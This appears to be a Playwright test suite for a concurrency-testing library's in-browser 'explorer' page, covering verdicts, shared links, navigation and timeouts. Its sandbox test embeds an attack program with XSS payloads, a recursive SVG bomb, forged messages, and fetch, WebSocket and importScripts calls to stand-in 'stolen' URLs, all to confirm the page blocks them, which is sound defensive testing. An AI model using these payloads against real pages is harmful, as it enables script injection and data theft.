/** The explorer: a failure with its lines, its drawing and its program; the mended cache; a link; attacks. */
import { readFileSync } from "node:fs"
import { fileURLToPath } from "node:url"
import { check } from "./checks.js"
import { frames, open } from "./page.js"

const wide = { viewport: { width: 1440, height: 1000 }, reducedMotion: "reduce" }
const kind = "explorer"

/** By the program's title: the verdict begins so. */
const verdicts = {
  "A cache that hangs": "deadlock: b waits forever",
  "A shop that sells each seat once": "No failure in 1,000 schedules",
  "The cache, after a first repair": "expectation: b, whom nobody interrupted, got no value",
  "The cache, mended": "Every schedule there is within the bounds: no failure.",
  "A counter that loses an update": "expectation: an update was lost",
  "Three requests in one turn": "expectation: three in one turn",
  "A stack that is not linearizable": "not-linearizable: ",
  "Customers who are alike": "Every schedule there is within the bounds: no failure.",
  "Two logins, with promises": "expectation: 2 logins"
}

const explore = async (page) => {
  await page.click(".program .run")
  await page.waitForSelector(".verdict", { timeout: 30_000 })
  return page.locator(".verdict").innerText()
}

/** The text of the lit line of a turn. */
const lit = (page) => page.locator(".cm-line.lit:not(.lit-other)").allInnerTexts()

const cache = async (page) => {
  const verdict = await explore(page)
  check(kind, verdict === verdicts["A cache that hangs"], verdict)
  const lanes = await page.$$eval(
    ".lanes tr",
    (rows) => rows.map((row) => [row.querySelector("th").textContent, row.querySelectorAll("button").length])
  )
  check(
    kind,
    JSON.stringify(lanes) === JSON.stringify([["main", 1], ["a", 3], ["b", 1], ["", 1]]),
    JSON.stringify(lanes)
  )
  // Forward to the end and back: each turn lights its line.
  const steps = [
    ["main waits, line 23", "yield* t.settled"],
    ["a yields, line 12", "const value = yield* load(key)"],
    ["b waits, line 9", "if (known !== undefined) return yield* Deferred.await(known)"],
    ["a is interrupted, line 12", "const value = yield* load(key)"],
    ["a ends: interrupted, line 12", "const value = yield* load(key)"]
  ]
  const see = async ([turn, line]) => {
    const shown = await page.locator(".turn-text").innerText()
    const [text = ""] = await lit(page)
    const isRight = shown === turn && text.trim() === line
    check(`${kind}: turns that light their lines`, isRight, `${shown} / ${text}, not ${turn} / ${line}`)
  }
  for (const [i, step] of steps.entries()) {
    if (i > 0) await page.click("button.forward")
    await see(step)
  }
  await page.click("button.forward")
  const last = await page.locator(".turn-text").innerText()
  check(kind, last === "FAILS b waits forever", last)
  for (const step of steps.toReversed()) {
    await page.click("button.back")
    await see(step)
  }
  const image = await page.$eval(".drawing img", async (image) => {
    await image.decode()
    return [image.naturalWidth, image.src.slice(0, 19)]
  })
  check(kind, image[0] > 300 && image[1] === "data:image/svg+xml,", JSON.stringify(image))
  const message = await page.locator("pre.message").innerText()
  check(
    kind,
    message.includes("waits at main.ts:9  if (known !== undefined) return yield* Deferred.await(known)"),
    message
  )
  await page.click("text=Run without the kit")
  await page.waitForFunction(() =>
    /^done/.test([...document.querySelectorAll(".output .state")].at(-1)?.textContent ?? "")
  )
  const printed = (await page.locator(".output").last().innerText()).trim()
  check(kind, printed.startsWith("Error: b waits forever"), printed)
}

const all = async (page) => {
  const titles = await page.$$eval(".preset option", (options) => options.map((option) => option.textContent))
  check(kind, JSON.stringify(titles.toSorted()) === JSON.stringify(Object.keys(verdicts).toSorted()), titles.join(", "))
  for (const title of titles) {
    await page.selectOption(".preset", { label: title })
    const verdict = await explore(page)
    check(`${kind}: programs with their verdicts`, verdict.startsWith(verdicts[title] ?? "?"), `${title}: ${verdict}`)
  }
}

/** Breaks the shop in the editor, as a reader does, and shares it. */
const shared = async (browser, origin, page) => {
  await page.selectOption(".preset", { label: "A shop that sells each seat once" })
  const text = (await page.locator(".cm-content").innerText()).replace("lock.withPermit(buy)", "buy")
  await page.locator(".cm-content").fill(text)
  await page.selectOption(".strategy", "random")
  await page.fill(".seed", "7")
  const verdict = await explore(page)
  check(kind, verdict === "expectation: one seat was sold twice", verdict)
  const key = await page.locator(".found .state code").innerText()
  await page.click("text=Copy a link")
  await page.waitForFunction(() => location.hash.length > 100)
  const fresh = await browser.newContext(wide)
  const { page: other, take } = await open(fresh, origin)
  await other.goto(page.url())
  await other.waitForSelector(".cm-editor")
  await frames(other, 20)
  const button = await other.locator(".program .run").innerText()
  const isStill = button === "Explore" && (await other.locator(".verdict").count()) === 0
  check(kind, isStill, "a link runs its program before its reader has pressed Explore")
  // Another strategy may find the same failure.
  const options = await Promise.all([".strategy", ".seed", ".realism"].map((one) => other.locator(one).inputValue()))
  check(kind, options.join() === "random,7,contract", `a shared link has the options ${options}`)
  const again = await explore(other)
  check(
    kind,
    again === verdict && (await other.locator(".found .state code").innerText()) === key,
    `a shared link gave ${again}`
  )
  const troubles = take()
  check(kind, troubles.length === 0, troubles.join("; "))
  await fresh.close()
}

const linkOf = (origin, shared) => `${origin}/explore#${Buffer.from(JSON.stringify(shared)).toString("base64url")}`

/** A program that wants more than to print: it forges results, with markup in every text, and asks for the network. */
const attack = (origin, drawing) => `
import { Effect } from "effect"
import { explore, scenario } from "sluice/testing"

const mark = "<img src=x onerror='window.hacked = 1'><script>window.hacked = 2</script>"
const svg = ${JSON.stringify(drawing)}
const active = "<svg xmlns='http://www.w3.org/2000/svg' onload='parent.hacked = 3; window.hacked = 4'><style></style><script>parent.hacked = 5; top.hacked = 6</script><image href='${origin}/stolen-1'/><foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' srcdoc='<script>top.hacked = 7</script>'/></foreignObject></svg>"
const forged = {
  runs: 1, distinct: 1, perSecond: 1, millis: 1, exhausted: false, truncated: 0, text: mark,
  failure: {
    kind: mark, message: mark, key: mark, realism: mark, run: 1, decisions: 1, svg, program: mark,
    fibers: [mark], turns: [{ fiber: 0, kind: "suspend", detail: mark, by: mark, line: 1e9 }]
  }
}
const drawn = (svg) => ({ ...forged, failure: { ...forged.failure, svg } })
// A page that draws this takes longer than its reader lives.
const copies = Array.from(
  { length: 9 },
  (_, i) => "<g id='c" + (i + 1) + "'>" + ("<use href='#c" + i + "'/>").repeat(10) + "</g>"
).join("")
const drawings = [
  "javascript:1",
  active,
  svg.replace("</svg>", "<g id='c0'><rect x='0' y='0' width='5' height='5'/></g>" + copies + "</svg>"),
  svg.replace("</style>", ".sluice{filter:blur(99px)}</style>"),
  svg.replace(/ width="\\d+"/, ' width="9000000"'),
  svg.replace("</title>", "\\ud800</title>")
]
const results = [{}, null, "x", ...drawings.map(drawn), { ...forged, text: { toString: () => mark } }, forged]
for (const result of results) try { postMessage({ kind: "result", result }) } catch {}
postMessage({ kind: "print", level: mark, text: mark })
console.log(mark)
const seen = []
for (const url of ["${origin}/stolen-2", "https://example.com/stolen-3"]) {
  seen.push(await fetch(url).then(() => "fetched", () => "refused"))
  try { importScripts(url); seen.push("imported") } catch { seen.push("refused") }
  try { const socket = new WebSocket(url.replace("http", "ws")); seen.push(await new Promise((resolve) => { socket.onopen = () => resolve("opened"); socket.onerror = () => resolve("refused") })) } catch { seen.push("refused") }
}
for (const name of ["document", "parent", "localStorage", "top"]) seen.push(typeof globalThis[name])
seen.push(await new Promise((resolve) => { try { const open = indexedDB.open("x"); open.onsuccess = () => resolve("stored"); open.onerror = () => resolve("refused") } catch { resolve("refused") } }))
console.log("seen " + [...new Set(seen)].sort().join(" "))
`

const harmless = async (browser, origin) => {
  const context = await browser.newContext(wide)
  const page = await context.newPage()
  const asked = []
  const dialogs = []
  const errors = []
  page.on("pageerror", (error) => errors.push(error.message))
  page.on("request", (request) => {
    if (/stolen|example\.com/.test(request.url())) asked.push(request.url())
  })
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  // The drawing of a real failure, in which the texts are those of an attack.
  const made = fileURLToPath(new URL("../.cache/landing.json", import.meta.url))
  const { svg } = JSON.parse(readFileSync(made, "utf8"))
  await page.goto(linkOf(origin, { code: attack(origin, svg), strategy: "<b>", realism: "<b>", seed: "<b>" }))
  await page.waitForSelector(".cm-editor")
  const address = page.url()
  // The frame is removed when the program ends.
  const frame = page.waitForSelector("iframe", { state: "attached" })
  await page.click(".program .run")
  const sandbox = await (await frame).getAttribute("sandbox")
  await page.waitForSelector(".output >> text=seen", { timeout: 30_000 })
  await page.waitForTimeout(500)
  const seen = await page.evaluate(() => ({
    hacked: window.hacked,
    made: document.querySelectorAll(
      ".explorer script, .explorer .found img, .explorer .output img, .explorer svg, .explorer iframe"
    ).length,
    images: [...document.querySelectorAll(".explorer img:not(.cm-widgetBuffer)")]
      .map((image) => image.src.slice(0, 19))
  }))
  const attacks = `${kind}: attacks without effect`
  check(attacks, seen.hacked === undefined, `script ran in the page: ${seen.hacked}`)
  check(attacks, seen.made === 0, `${seen.made} elements were made of the program's text`)
  check(attacks, seen.images.join() === "data:image/svg+xml,", `the images are ${seen.images}`)
  check(attacks, sandbox === "allow-scripts", `the sandbox is ${sandbox}`)
  check(attacks, asked.length === 0, `requests: ${asked.join(", ")}`)
  check(attacks, dialogs.length === 0, `dialogs: ${dialogs.join(", ")}`)
  check(attacks, page.url() === address, `the page has gone to ${page.url()}`)
  check(attacks, errors.length === 0, `errors of the page: ${errors.join("; ")}`)
  const printed = await page.locator(".explorer .output").first().innerText()
  // One cannot be sent, and the last one has the shape of a result.
  const refused = printed.match(/a result of the wrong shape/g)?.length
  check(attacks, refused === 9, `${refused} results were refused, of 9`)
  check(attacks, printed.includes("<img src=x onerror="), `text is not shown as text: ${printed}`)
  check(attacks, /seen refused undefined\s/.test(printed), printed)
  // A program that posts without end is ended before the page falls behind.
  for (const text of ["\"x\"", "\"x\".repeat(1e6)"]) {
    await page.locator(".cm-content").fill(`for (;;) postMessage({ kind: "print", level: "log", text: ${text} })`)
    await page.click(".program .run")
    const isEnded = await page.waitForSelector(".output >> text=ended: the program posts too much", { timeout: 12_000 })
      .then(() => true, () => false)
    check(attacks, isEnded, `a program that posts ${text} without end is not ended in time`)
  }
  // No module of the page, and none of the prototype's names.
  const modules = ["node:fs", "constructor", "__proto__", "effect/constructor", "vue"]
  await page.locator(".cm-content").fill(
    `for (const name of ${
      JSON.stringify(modules)
    }) try { console.log("got " + typeof require(name)) } catch (e) { console.log(e.message) }`
  )
  await page.click(".program .run")
  await page.waitForFunction(() => document.querySelector(".program .run").textContent === "Explore")
  const answers = await page.locator(".explorer .output").first().innerText()
  check(attacks, answers.match(/cannot be imported/g)?.length === modules.length && !answers.includes("got"), answers)
  // An error that cannot be read ends a program as another one does.
  const thrower = "{ get() { throw 1 } }"
  for (const error of [`new Proxy({}, ${thrower})`, `Object.defineProperty(new Error(), "name", ${thrower})`]) {
    await page.locator(".cm-content").fill(`throw ${error}`)
    await page.click(".program .run")
    const isEnded = await page.waitForSelector(".output >> text=an error that cannot be shown", { timeout: 12_000 })
      .then(() => true, () => false)
    check(attacks, isEnded, `throw ${error} does not end`)
    await page.waitForFunction(() => document.querySelector(".program .run").textContent.trim() === "Explore")
  }
  // A program that never ends is ended: its reader may stop it at once.
  await page.locator(".cm-content").fill("while (true) {}")
  await page.click(".program .run")
  await page.click(".program .run >> text=Stop")
  check(
    attacks,
    (await page.locator(".found > .state").first().innerText()) === "stopped",
    "an endless program is not stopped"
  )
  await context.close()
}

/** A run of many fibers, and one with a long message: each is cut to what a page shows. */
const large = async (browser, origin) => {
  const context = await browser.newContext(wide)
  const { page, take } = await open(context, origin)
  const cases = [
    [300, "no", "expectation: no"],
    [2, "x".repeat(20_000), "expectation: xxx"]
  ]
  for (const [fibers, message, verdict] of cases) {
    const code = `import { Effect } from "effect"
import { explore, scenario } from "sluice/testing"
explore(scenario((t) => Effect.gen(function*() {
  for (let i = 0; i < ${fibers}; i++) yield* t.actor("fiber " + i, Effect.yieldNow, { cancel: false })
  yield* t.settled
  yield* t.expect(false, "${message}")
})))`
    await page.goto("about:blank")
    await page.goto(linkOf(origin, { code }))
    await page.waitForSelector(".cm-editor")
    const said = await explore(page).catch(() => page.locator(".found").innerText())
    check(kind, said.startsWith(verdict), `${fibers} fibers: ${said.slice(0, 200)}`)
    check(kind, await page.locator(".turn-text").count() === 1, `${fibers} fibers: no turn is shown`)
  }
  const troubles = take()
  check(kind, troubles.length === 0, troubles.join("; "))
  await context.close()
}

/** A link that is damaged, then one that is not, Back, and another program from the list. */
const addresses = async (browser, origin) => {
  const context = await browser.newContext(wide)
  const { page, take } = await open(context, origin)
  const program = () => page.locator(".cm-content").innerText()
  const whole = linkOf(origin, { code: "const shared = 1" })
  await page.goto(whole.slice(0, -5))
  await page.waitForSelector(".cm-editor")
  const said = await page.locator(".found").innerText()
  check(kind, said.includes("This link is damaged"), `a damaged link: ${said}`)
  await page.goto(`${origin}/explore`)
  await page.waitForSelector(".cm-editor")
  const first = await program()
  await page.evaluate((hash) => (location.hash = hash), new URL(whole).hash)
  await page.waitForFunction(() => document.querySelector(".cm-content").textContent === "const shared = 1")
  await page.goBack()
  await frames(page, 20)
  check(kind, (await program()) === first, `Back from a link shows ${await program()}`)
  await page.goForward()
  await frames(page, 20)
  check(kind, (await program()).trim() === "const shared = 1", `Forward to a link shows ${await program()}`)
  await page.selectOption(".preset", { label: "The cache, mended" })
  check(kind, new URL(page.url()).hash === "", `the address of another program: ${page.url()}`)
  // An edited program is not the one that was explored.
  await explore(page)
  await page.locator(".cm-content").fill("const other = 1")
  check(kind, await page.locator(".found .stale").count() === 1, "a verdict stands for a program that has changed")
  // Back from a heading, and from another page, finds the program of the reader.
  await page.click("a.header-anchor >> nth=-1", { force: true })
  await page.goBack()
  await frames(page, 20)
  await page.waitForSelector(".cm-editor")
  check(kind, (await program()).trim() === "const other = 1", `Back from a heading shows ${await program()}`)
  await page.click("text=Guides")
  await page.waitForSelector(".explorer", { state: "detached" })
  await page.goBack()
  await page.waitForSelector(".cm-editor")
  check(kind, (await program()).trim() === "const other = 1", `Back from a guide shows ${await program()}`)
  // The keyboard leaves the editor.
  await page.locator(".cm-content").focus()
  await page.keyboard.press("Escape")
  await page.keyboard.press("Tab")
  const focused = await page.evaluate(() => document.activeElement.className)
  check(kind, focused === "run", `Esc, then Tab: the focus is on ${focused}`)
  const troubles = take()
  check(kind, troubles.length === 0, troubles.join("; "))
  await context.close()
}

/** A field without a number has its own again, and a verdict says that the options have changed since. */
const fields = async (browser, origin) => {
  const context = await browser.newContext(wide)
  const { page, take } = await open(context, origin)
  await page.goto(`${origin}/explore`)
  await page.waitForSelector(".cm-editor")
  await page.selectOption(".strategy", "exhaustive")
  const numbers = page.locator(".controls input[type=number]")
  for (const wrong of ["", "-1", "1.5", "99999999999"]) {
    for (let field = 0; field < 3; field++) {
      await numbers.nth(field).fill(wrong)
      await numbers.nth(field).press("Tab")
    }
    const values = await numbers.evaluateAll((inputs) => inputs.map(({ value }) => value))
    check(kind, values.join() === "2,1,1", `"${wrong}" in the fields of numbers gives ${values}`)
  }
  await explore(page)
  check(kind, await page.locator(".found .stale").count() === 0, "a new verdict is called one of other options")
  await numbers.first().fill("3")
  await frames(page, 2)
  const said = await page.locator(".found .stale").allInnerTexts()
  check(kind, said.join().startsWith("The options have changed"), "a verdict stands for options that have changed")
  const troubles = take()
  check(kind, troubles.length === 0, troubles.join("; "))
  await context.close()
}

/** Explore is in sight where the program is, and so is the verdict once it is there. */
const inSight = async (browser, origin) => {
  for (const [width, height] of [[1440, 900], [1366, 768], [390, 844]]) {
    const context = await browser.newContext({ viewport: { width, height }, reducedMotion: "reduce" })
    const { page } = await open(context, origin)
    await page.goto(`${origin}/explore`)
    await page.waitForSelector(".cm-editor")
    const within = (selector) =>
      page.$eval(selector, (element) => {
        const { bottom, top } = element.getBoundingClientRect()
        return top >= 64 && bottom <= innerHeight
      })
    if (width > 1000) check(kind, await within(".program .run"), `Explore is out of sight at ${width} x ${height}`)
    await page.selectOption(".preset", { label: "The cache, mended" })
    const top = await page.$eval(".cm-scroller", (element) => element.scrollTop)
    check(kind, top === 0, `another program begins ${top} px down`)
    await page.locator(".program .run").scrollIntoViewIfNeeded()
    await explore(page)
    await frames(page, 12)
    check(kind, await within(".verdict"), `the verdict is out of sight at ${width} x ${height}`)
    await context.close()
  }
}

/** A program that never ends is ended by the page, after 15 seconds of its clock. */
const endless = async (browser, origin) => {
  const context = await browser.newContext(wide)
  const page = await context.newPage()
  await page.clock.install()
  await page.goto(`${origin}/explore`)
  await page.waitForSelector(".cm-editor")
  await page.locator(".cm-content").fill("console.log('begun')\nwhile (true) {}")
  const now = () => page.evaluate(() => Date.now())
  const before = await now()
  await page.click(".program .run")
  await page.waitForSelector(".output >> text=begun", { timeout: 30_000 })
  const after = await now()
  await page.clock.pauseAt(before + 14_900)
  check(kind, (await page.locator("iframe").count()) === 1, "a program is ended before its 15 seconds")
  await page.clock.fastForward(after + 15_000 - (before + 14_900))
  await page.waitForSelector(".output >> text=ended after 15 seconds")
  check(kind, (await page.locator("iframe").count()) === 0, "the frame of an ended program is still there")
  await context.close()
}

export const exploring = async (browser, origin) => {
  const context = await browser.newContext(wide)
  const { page, take } = await open(context, origin)
  await page.goto(`${origin}/explore`)
  await page.waitForSelector(".cm-editor")
  await cache(page)
  await all(page)
  await shared(browser, origin, page)
  const troubles = take()
  check(kind, troubles.length === 0, troubles.join("; "))
  await context.close()
  await large(browser, origin)
  await addresses(browser, origin)
  await fields(browser, origin)
  await inSight(browser, origin)
  await harmless(browser, origin)
  await endless(browser, origin)
}
